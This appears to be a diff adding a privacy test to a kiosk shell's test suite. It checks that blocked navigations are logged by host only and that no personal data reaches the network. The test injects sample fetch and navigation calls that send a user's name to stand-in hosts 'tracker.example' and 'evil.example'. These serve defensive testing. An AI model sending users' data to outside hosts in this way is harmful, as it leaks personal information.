@@ -16,6 +16,7 @@ from kiosk.shell.window import ShellWindow
 from kiosk.store.models import GuestSession
 from tests.agent.conftest import LiveStore
 from tests.shell.conftest import open_caf, run_js, type_code
+from tests.webproxy import WebProxy
 
 
 def test_a_whole_session_then_nothing_is_left(qtbot: QtBot, window: ShellWindow,
@@ -140,3 +141,28 @@ def test_the_wipe_stops_programs_the_session_started(qtbot: QtBot, window: Shell
     finally:
         already_running.kill()
         already_running.wait()
+
+
+def test_refusals_and_services_are_usage_events_without_addresses(
+        qtbot: QtBot, window: ShellWindow, live_store: LiveStore, web_proxy: WebProxy) -> None:
+    type_code(qtbot, window, live_store.code(minutes=30))
+    qtbot.waitUntil(lambda: not window.showing_lock, timeout=30_000)
+    open_caf(qtbot, window)
+    run_js(qtbot, window, "fetch('http://tracker.example/pixel?user=dupont').catch(() => 0);"
+                          "fetch('http://tracker.example/again').catch(() => 0); true")
+    running = window.running
+    assert running is not None
+
+    def events(kind: str) -> list[object]:
+        return [event["data"] for event in window.agent.outbox.pending()
+                if event["type"] == kind]
+
+    qtbot.waitUntil(lambda: bool(events("blocked_navigation")), timeout=10_000)
+    run_js(qtbot, window, "window.location.href = 'http://evil.example/offre?nom=dupont'; 1")
+    qtbot.waitUntil(lambda: len(events("blocked_navigation")) == 2, timeout=10_000)
+    assert sorted(events("blocked_navigation"), key=str) == [  # once per host, host only
+        {"host": "evil.example"}, {"host": "tracker.example"}]
+    assert events("service_used") == [{"site_id": "caf"}]
+    assert "dupont" not in str(window.agent.outbox.pending())
+    # The session's profile checks every request: nothing refused reached the network.
+    assert web_proxy.hosts_requested() == {"www.caf.fr"}
